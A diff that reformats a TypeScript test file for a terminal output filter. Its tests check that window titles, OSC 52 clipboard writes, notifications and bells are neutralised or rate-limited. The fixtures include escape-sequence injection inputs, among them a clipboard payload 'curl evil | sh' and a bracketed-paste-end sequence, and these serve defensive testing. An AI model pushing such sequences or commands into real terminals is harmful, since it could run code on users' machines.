@@ -60,7 +60,7 @@ test('terminal filter: 8-bit C1 and C1 encoded in UTF-8 act as their 7-bit forms
 
 test('terminal filter: titles are made inert, capped, and the operator title pushed once for the restore', () => {
   // ESC inside an OSC ends it (as in terminals); what can remain is DEL, bidi controls and C0 (ignored).
-  const r = run('\x1b]2;evil\x7f\x01\xe2\x80\xae?\x07x\x1b]0;' + 'T'.repeat(500) + '\x1b\\');
+  const r = run(`\x1b]2;evil\x7f\x01\xe2\x80\xae?\x07x\x1b]0;${'T'.repeat(500)}\x1b\\`);
   assert.ok(r.out.startsWith('\x1b[22;0t\x1b]2;evil\\x7f\\u202e?\x1b\\x\x1b]0;'), JSON.stringify(r.out));
   assert.equal(r.out.split('\x1b[22;0t').length, 2);
   const title = Buffer.from(/\x1b\]0;([^\x1b]*)\x1b\\$/.exec(r.out)?.[1] ?? '', 'latin1').toString('utf8');
@@ -80,7 +80,11 @@ test('terminal filter: OSC 52 never passes; a valid write is a copy offer, a que
   assert.equal(r.out, 'abcd');
   assert.deepEqual(
     r.events.filter((e) => e.type !== 'dropped'),
-    [{ type: 'copy-offer', text: 'curl evil | sh\n\u00e9', bytes: 17, removed: 0 }, { type: 'clipboard-query' }, { type: 'copy-offer', text: 'x', bytes: 1, removed: 0 }],
+    [
+      { type: 'copy-offer', text: 'curl evil | sh\n\u00e9', bytes: 17, removed: 0 },
+      { type: 'clipboard-query' },
+      { type: 'copy-offer', text: 'x', bytes: 1, removed: 0 },
+    ],
   );
   // Control characters other than tab, LF and CR never reach the clipboard: no paste end, no palette key.
   const seeded = run(`\x1b]52;c;${b64('ls\x1b[201~\x1c\x16\tok\r\n\u009b\x7f')}\x07`).events[0];
@@ -181,7 +185,9 @@ test('terminal filter: each notification let through is an event with inert text
   const events: FilterEvent[] = [];
   const f = new TerminalFilter({ now: () => t, onEvent: (e) => void (e.type === 'notification' && events.push(e)) });
   f.notifyTerminal = false;
-  const shown = f.push(Buffer.from('a\x1b]2;My \x7fAgent\x07b\x1b]9;done\x07\x1b]52;c;eA==\x07\x1b]777;notify;Build;ok; really\u202e\x07\x1b]99;;plain\x07', 'utf8')).toString();
+  const shown = f
+    .push(Buffer.from('a\x1b]2;My \x7fAgent\x07b\x1b]9;done\x07\x1b]52;c;eA==\x07\x1b]777;notify;Build;ok; really\u202e\x07\x1b]99;;plain\x07', 'utf8'))
+    .toString();
   assert.equal(shown, 'a\x1b[22;0t\x1b]2;My \\x7fAgent\x1b\\b', 'the title passes; the notifications do not');
   assert.equal(f.programTitle, 'My \\x7fAgent');
   assert.deepEqual(events, [
@@ -208,7 +214,10 @@ test('terminal filter: with bell events on, a BEL in the text is a notification 
   assert.equal(f.push(Buffer.from('ding\x07')).toString(), 'ding\x07');
   assert.equal(f.push(Buffer.from('\x1b[1mx\x1b[0m\x07')).toString(), '\x1b[1mx\x1b[0m\x07');
   assert.equal(f.push(Buffer.from('\x1b]0;title\x07é\x07')).toString(), '\x1b[22;0t\x1b]0;title\x1b\\é\x07');
-  assert.deepEqual(events.map((e) => e.type === 'notification' && e.source), ['bell', 'bell', 'bell']);
+  assert.deepEqual(
+    events.map((e) => e.type === 'notification' && e.source),
+    ['bell', 'bell', 'bell'],
+  );
   f.push(Buffer.from('\x07\x07'));
   assert.equal(events.length, 3, 'past the rate limit');
   const denied = new TerminalFilter({ notify: false, onEvent: (e) => void events.push(e) });
